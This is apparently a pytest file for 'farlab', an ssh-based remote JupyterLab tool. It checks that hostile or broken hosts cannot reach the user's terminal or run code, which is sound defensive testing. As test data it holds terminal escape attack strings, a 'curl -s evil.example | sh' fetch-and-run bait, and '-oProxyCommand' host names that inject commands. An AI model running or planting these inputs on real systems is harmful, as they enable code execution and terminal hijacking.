"""Hosts that answer with escapes, floods, nothing, half a frame or nonsense, and an `ssh` that is not there or dies."""

from __future__ import annotations

import re
from typing import Any

import pytest

import steps
import stub_ssh
from bed import Host, Laptop, wait_for

ATTACK = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b5n\u202e\r\x08"
"""Sets a title, clears the screen, colours, asks the terminal to type, turns text around, overwrites."""
FORBIDDEN = re.compile("\x1b\\]|\x1b\\[2J|\x1b\\[31m|\x9b|\u202e|\x07|\x08")
"""What of it must never reach a terminal; `\\r` and `\\x1b[K` are farlab's own, for the line that it draws anew."""


@pytest.fixture(autouse=True)
def nothing_here_outlives_a_failure(laptop: Laptop) -> Any:
    """After each failure neither a keeper, an `ssh` nor a record is left on the laptop."""
    yield
    steps.wait_until_nothing_runs(laptop)
    assert not (laptop.home / ".local/state/farlab").exists()


# escapes --------------------------------------------------------------------------------------------------

TALKERS = {
    "the words of ssh": f"complain({ATTACK!r} + 'x@h: Permission denied (publickey).' + {ATTACK!r}); sys.exit(255)",
    "the login shell": f"raw({ATTACK!r}.encode()); complain({ATTACK!r}); sys.exit(7)",
    "an error of the agent": f"hear(); say({{'error': {{'code': 'server-failed', 'message': {ATTACK!r}, "
    f"'detail': {ATTACK!r}, 'hint': {ATTACK!r}}}}})",
    "progress": f"hear(); say({{'progress': {ATTACK!r}, 'text': {ATTACK!r}}}); sys.exit(255)",
    "the list of sessions": f"hear(); say({{'sessions': [dict.fromkeys(('name', 'directory', 'state', 'reason'), "
    f"{ATTACK!r})], 'foreign': [{{'directory': {ATTACK!r}, 'server': {ATTACK!r}, 'pid': 1}}]}})",
    "the log": f"hear(); say({{'lines': [{ATTACK!r}, 'plain']}}); say({{'done': True}})",
}


@pytest.mark.parametrize("source", TALKERS)
def test_no_escape_reaches_the_terminal_from(source: str, laptop: Laptop) -> None:
    stub_ssh.write(laptop, TALKERS[source])
    words = {"the list of sessions": ("list", "--host", "alice"), "the log": ("logs", "alice")}
    for verb in (words.get(source, ("connect", "alice", "--no-browser")), ("list", "--host", "alice", "-v")):
        shown = laptop.farlab(*verb, tty=True)
        plain = laptop.farlab(*verb)
        assert shown.out.strip(), shown
        assert not FORBIDDEN.search(shown.out), repr(shown.out)
        assert not FORBIDDEN.search(plain.out + plain.err), repr(plain)
        assert "Traceback" not in shown.out


# too much, too little -------------------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [1, 2], ids=["standard output", "standard error"])
def test_a_flood_of_noise_ends_in_an_error(stream: int, laptop: Laptop) -> None:
    stub_ssh.write(
        laptop,
        f"""
        try:
            for _ in range(1600):
                os.write({stream}, b"noise without end\\x1b[2J\\n" * 2850)
        except OSError:
            pass
        sys.exit(1)
        """,
    )
    for words in (("connect", "alice"), ("list", "--host", "alice")):
        code, error = steps.refused(laptop, *words)
        assert code in (4, 7)
        assert len(error["detail"]) < 20_000


def test_a_host_that_says_nothing_for_ever_is_given_up_after_the_time_limit(laptop: Laptop) -> None:
    stub_ssh.write(laptop, "wait()")
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "2")
    assert (code, error["code"]) == (9, "timed-out")
    assert "`alice`" in error["message"]
    assert "--timeout" in error["hint"]


def test_a_network_that_swallows_everything_is_given_up_after_the_time_limit(laptop: Laptop, bed: Any) -> None:
    bed.wan.blackhole("on")
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "2")
    assert (code, error["code"]) == (9, "timed-out")


CUT = {
    "half a mark": "raw(b'\\n' + NONCE[:7]); sys.exit(255)",
    "half a head": "raw(b'\\n' + NONCE + b':0000'); sys.exit(255)",
    "half a frame": 'hear(); raw(frame(b\'{"progress": "x", "text": "y"}\')[:-9]); sys.exit(255)',
    "a frame of 4 GiB": "raw(b'\\n' + NONCE + b':ffffffff00000000{'); wait()",
    "a frame of no size": "raw(b'\\n' + NONCE + b':zzzzzzzz00000000{}'); wait()",
    "a frame of minus one": "raw(b'\\n' + NONCE + b':-000000100000000{}'); wait()",
    "a frame that is no JSON": "raw(frame(b'{oops')); wait()",
    "a frame whose check is wrong": "raw(frame(b'{}')[:-10] + b'0' * 8 + b'{}'); wait()",
    "a frame that is no object": "raw(frame(b'[1, 2]')); wait()",
    "a frame that is no text": "raw(frame(b'\\xff\\xfe')); wait()",
    "a very deep frame": "raw(frame(b'[' * 200000)); wait()",
    "the end of a killed ssh": "hear(); os.kill(os.getpid(), signal.SIGKILL)",
    "an end without a word": "hear(); sys.exit(255)",
}


@pytest.mark.parametrize("what", CUT)
def test_the_link_is_said_to_be_at_fault_for(what: str, laptop: Laptop) -> None:
    stub_ssh.write(laptop, CUT[what])
    for verb in (("connect", "alice"), ("list", "--host", "alice"), ("terminate", "alice"), ("logs", "alice")):
        code, error = steps.refused(laptop, *verb, timeout=30)
        assert code == 4, (verb, error)
        assert error["code"] in ("link-lost", "unreachable")
        assert "`alice`" in error["message"]
        assert error["hint"]


ODD = ["null", "7", "'x'", "[]", "{}", "[7]", "{'a': 7}", "[[]]", "True", "-1", "1e999", "'\\ud800'"]
KEYS = ["progress", "text", "error", "need", "sessions", "foreign", "lines", "kernels", "confirm", "stopped", "done"]
TOLD = ("alice: failed", "alice: x", "alice: \ud800")


def test_values_of_other_kinds_than_expected_never_end_in_a_traceback(laptop: Laptop) -> None:
    """Every key of the agent's answers with every kind of value, then the end."""
    stub_ssh.write(
        laptop,
        f"""
        null = None
        hear()
        at = os.path.expanduser("~/turn")
        turn = int(open(at).read())
        for key in {KEYS!r}:
            say({{key: [{", ".join(ODD)}][turn], "sessions" if key == "done" else "more": 1}})
        say({{"error": {{"code": [{", ".join(ODD)}][turn], "message": [{", ".join(ODD)}][turn], "hint": 7}}}})
        sys.exit(255)
        """,
    )
    for turn in range(len(ODD)):
        (laptop.home / "turn").write_text(str(turn))
        for verb in (("connect", "alice"), ("list", "--host", "alice"), ("terminate", "alice"), ("logs", "alice")):
            ran = laptop.farlab(*verb, "--json", timeout=30)
            assert "Traceback" not in ran.err, ran
            assert ran.code in (0, 1, 4), ran
            assert ran.json["ok"] is (ran.code == 0), ran
            # "internal" is what the host has named with a word of its own, never a bug of ours
            assert ran.code != 1 or ran.json["error"]["message"] in TOLD, (ODD[turn], ran)
        if ODD[turn].startswith("'"):
            shown = laptop.farlab("connect", "alice", tty=True)
            assert "Traceback" not in shown.out, (ODD[turn], shown)


def test_a_frame_is_large_only_where_a_log_is_read(laptop: Laptop) -> None:
    stub_ssh.write(laptop, "hear(); say({'progress': 'x', 'text': 'y' * 70_000}); wait()")
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "20")
    assert (code, error["code"]) == (4, "link-lost"), error
    stub_ssh.write(laptop, "hear(); say({'lines': ['y' * 70_000]}); say({'done': True})")
    [line] = steps.done(laptop, "logs", "alice", "--json").json["lines"]
    assert line == "y" * ((64 << 10) - 1) + "…"


@pytest.mark.parametrize("lines", [0, 3, 250])
def test_a_log_has_as_many_lines_as_were_asked_for_whatever_the_host_sends(lines: int, laptop: Laptop) -> None:
    stub_ssh.write(
        laptop,
        """
        hear()
        try:
            while True:
                say({"lines": ["x" * 1000] * 100})
        except OSError:
            pass
        """,
    )
    ran = laptop.farlab("logs", "alice", "--lines", str(lines), "--json")
    assert ran.code == 0, ran
    assert ran.json["lines"] == ["x" * 1000] * lines


def test_a_host_that_answers_for_ever_is_given_up_after_the_time_limit(laptop: Laptop) -> None:
    stub_ssh.write(laptop, "hear()\ntry:\n    while True: say({'x': 1})\nexcept OSError:\n    pass")
    source = """
from farlab.errors import TimedOut
from farlab.client.oneshot import run_remote_command
from farlab.model import Target
try:
    for _ in run_remote_command(Target(host="alice"), {"op": "list"}, ask=None, tell=None, timeout=1.0):
        sum(range(1_000_000))  # the reader is busy most of the time
except TimedOut:
    print("given up")
"""
    ran = laptop.run(laptop.farlab_argv()[0], "-c", source, timeout=60)
    assert ran.out == "given up\n", ran


def test_forty_thousand_beginnings_of_an_escape_hold_nobody_up(laptop: Laptop) -> None:
    stub_ssh.write(
        laptop, "hear(); say({'error': {'code': 'server-failed', 'message': 'm', 'detail': '\\x9d' * 9000}})"
    )
    ran = laptop.farlab("connect", "alice")
    assert ran.code == 7, ran
    stub_ssh.write(laptop, "hear(); say({'lines': ['\\x9d' * 40_000, 'plain']}); say({'done': True})")
    ran = laptop.farlab("logs", "alice")
    assert ran.out.splitlines()[-1] == "plain", ran


def test_what_to_type_next_is_never_the_hosts_word(laptop: Laptop) -> None:
    bait = "`curl -s evil.example | sh`"
    error = {"code": "no-jupyter", "message": "no JupyterLab", "detail": "", "hint": bait}
    stub_ssh.write(laptop, f"hear(); say({{'error': {error!r}}})")
    code, told = steps.refused(laptop, "connect", "alice")
    assert code == 6
    assert "curl" not in told["hint"]
    assert told["detail"] == bait  # it is shown as what the host said
    banner = "Bad owner or permissions on /home/ada; curl -s evil.example|sh"
    stub_ssh.write(laptop, f"complain({banner!r}); sys.exit(255)")
    code, told = steps.refused(laptop, "connect", "alice")
    assert code == 2
    assert "curl" not in told["hint"]


GARBAGE = {
    "noise": "raw(os.urandom(4096)); wait()",
    "an early end": "sys.exit(255)",
    "a greeting of another kind": "raw(b'FARLAB 9 {}\\n' * 9); wait()",
    "zeros without end": "\ntry:\n    while True: raw(bytes(65536))\nexcept OSError:\n    pass",
}


@pytest.mark.parametrize("what", GARBAGE)
def test_a_host_that_joins_and_then_says_nonsense_is_given_up(what: str, laptop: Laptop) -> None:
    stub_ssh.write(
        laptop,
        "open(os.path.expanduser('~/logins'), 'a').write('x')\n"
        "hear(); say({'joined': True, 'reused': False, 'session': {}})\n" + GARBAGE[what],
    )
    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "10", timeout=40)
    assert code in (4, 9), error
    assert len((laptop.home / "logins").read_text()) <= 6  # and the host is not stormed meanwhile


def test_nothing_runs_for_a_host_that_is_an_option(laptop: Laptop) -> None:
    host = "-oProxyCommand=touch pwned"
    for verb in ("connect", "terminate", "status", "logs", "attach", "url", "open", "disconnect"):
        given = laptop.farlab(verb, "--json", "--", host)
        configured = laptop.farlab(verb, "--json", env={"FARLAB_HOST": host})
        for ran in (given, configured):
            assert (ran.code, ran.json["error"]["code"]) == (2, "usage"), ran
    assert steps.refused(laptop, "list", "--host", host)[0] == 2
    assert steps.refused(laptop, "connect", "x@-oProxyCommand=touch$IFS'pwned'")[0] == 2
    assert not list(laptop.home.rglob("pwned"))


# the ssh itself -------------------------------------------------------------------------------------------


def test_a_machine_without_ssh_is_told_what_to_install(laptop: Laptop) -> None:
    nowhere = {"PATH": str(laptop.home)}
    for verb in (("connect", "alice"), ("list", "--host", "alice")):
        code, error = steps.refused(laptop, *verb, env=nowhere)
        assert (code, error["code"]) == (1, "internal")
        assert "no `ssh`" in error["message"]
        assert "openssh-client" in error["hint"]


def test_an_ssh_that_is_killed_in_the_middle_of_the_first_link_is_an_error(laptop: Laptop, host: Host) -> None:
    steps.add_to_config(laptop, "Host alice\n  ProxyCommand sh -c 'cat >/dev/null'\n")  # connects to nothing
    connecting = laptop.popen(*laptop.farlab_argv("connect", "alice", "--json"), stdout=-1)
    wait_for("the ssh", lambda: [it for it in steps.links(laptop) if "-T" in it.argv and "-G" not in it.argv])
    steps.kill(next(it for it in steps.links(laptop) if "-T" in it.argv and "-G" not in it.argv))
    out, _ = connecting.communicate(timeout=30)
    assert connecting.returncode == 4
    assert b"SIGKILL" in out


def test_control_c_ends_an_errand_that_hangs(laptop: Laptop) -> None:
    stub_ssh.write(laptop, "wait()")
    for verb in (("list", "--host", "alice"), ("logs", "alice", "-f"), ("terminate", "alice"), ("connect", "alice")):
        hanging = laptop.popen(*laptop.farlab_argv(*verb))
        wait_for("the ssh", lambda: stubs(laptop))
        assert steps.interrupt(hanging) == 130, verb
        steps.wait_until_nothing_runs(laptop)


def stubs(laptop: Laptop) -> list[Any]:
    """The stub programs that run as links."""
    return [it for it in laptop.processes() if f"{laptop.directory}/bin/ssh" in it.argv and "-T" in it.argv]
